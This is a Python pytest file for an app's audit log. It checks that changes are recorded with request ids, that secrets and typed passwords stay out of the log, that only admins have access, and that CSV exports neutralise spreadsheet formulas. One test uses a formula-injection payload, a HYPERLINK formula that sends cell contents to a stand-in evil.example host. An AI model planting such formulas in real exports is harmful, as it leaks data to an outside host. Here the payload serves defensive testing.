"""The audit: every change is in it with its request's id, no words are, and its export is harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragapp.serve.routes.audit import _harmless

from .conftest import PASSWORD, Service


@pytest.fixture
def admin(office: Service) -> httpx.Client:
    return office.client(office.token("root"))


def entries(admin: httpx.Client, **wanted: Any) -> list[dict[str, Any]]:
    response = admin.get("/v1/audit", params=wanted)
    assert response.status_code == 200, response.text
    return list(response.json())


def test_every_change_is_noted_with_the_requests_id(office: Service, admin: httpx.Client) -> None:
    made = admin.post("/v1/people", json={"name": "eve", "groups": ["board"]})
    person = made.json()["person"]["id"]
    token = admin.post("/v1/tokens", json={"name": "nightly"})
    changes = {
        "person.add": made,
        "person.change": admin.patch(f"/v1/people/{person}", json={"display": "Eve Secret-Name", "groups": []}),
        "person.link": admin.post(f"/v1/people/{person}/link"),
        "person.remove": admin.delete(f"/v1/people/{person}"),
        "group.add": admin.post("/v1/groups", json={"name": "hr"}),
        "group.remove": admin.delete("/v1/groups/hr"),
        "token.add": token,
        "token.revoke": admin.delete(f"/v1/tokens/{token.json()['token']['id']}"),
    }
    for action, response in changes.items():
        assert response.status_code < 300, (action, response.text)
        noted = [entry["request_id"] for entry in entries(admin, action=action)]
        assert response.headers["x-request-id"] in noted, action
    whole = json.dumps(entries(admin))
    for words in ("Secret-Name", "eve", token.json()["secret"], made.json()["link"].rpartition("/")[2]):
        assert words not in whole


def test_refused_sign_ins_are_noted_without_what_was_typed(office: Service, admin: httpx.Client) -> None:
    with office.client() as nobody:
        nobody.post("/v1/session", json={"name": "my password by mistake", "password": "x"})
        nobody.post("/v1/session", json={"name": "bob", "password": "guess of a password"})
    refused = entries(admin, action="session.refuse")
    assert [entry["person"] for entry in refused] == ["bob", ""]
    assert "mistake" not in json.dumps(refused) and "guess" not in json.dumps(refused)


def test_pages_and_filters(office: Service, admin: httpx.Client) -> None:
    for number in range(5):
        admin.post("/v1/groups", json={"name": f"g{number}"})
    first = entries(admin, action="group.add", limit=2)
    second = entries(admin, action="group.add", limit=2, before=first[-1]["id"])
    assert [entry["what"] for entry in first + second] == ["g4", "g3", "g2", "g1"]
    moment = first[-1]["at"]
    assert [entry["what"] for entry in entries(admin, action="group.add", since=moment)] == ["g4", "g3"]
    assert [entry["what"] for entry in entries(admin, action="group.add", until=moment)] == ["g2", "g1", "g0"]


@pytest.mark.parametrize(
    "moment",
    ["2026-01-01T00:00:00", "2026-01-01", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0", "-1", "1e20"],
)
def test_odd_moments_are_no_failure(admin: httpx.Client, moment: str) -> None:
    for path in ("/v1/audit", "/v1/audit/export"):
        for name in ("since", "until"):
            assert admin.get(path, params={name: moment}).status_code in (200, 422), (path, name)


def test_names_that_look_like_formulas_are_harmless_in_a_spreadsheet(admin: httpx.Client) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1,"click")'
    assert admin.post("/v1/groups", json={"name": formula}).status_code == 201
    table = admin.get("/v1/audit/export", params={"format": "csv"})
    assert table.headers["content-type"].startswith("text/csv") and "attachment" in table.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(table.text)))
    assert [row["what"] for row in rows if row["action"] == "group.add"] == [f"'{formula}"]


@given(st.text())
def test_no_cell_begins_as_a_formula(cell: str) -> None:
    assert not _harmless(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert _harmless(cell).endswith(cell)


def test_an_export_is_whole_and_in_order(office: Service, admin: httpx.Client) -> None:
    for number in range(2_100):
        office.house.catalog.audit.note("", "test.note", str(number))
    lines = [json.loads(line) for line in admin.get("/v1/audit/export").text.splitlines()]
    assert [entry["what"] for entry in lines if entry["action"] == "test.note"] == [str(n) for n in range(2_100)]


def test_only_for_admins(office: Service) -> None:
    with office.signed_in("ada") as ada:
        for path in ("/v1/audit", "/v1/audit/export"):
            assert ada.get(path).status_code == 403
    assert PASSWORD not in str(office.house.catalog.audit.rows())
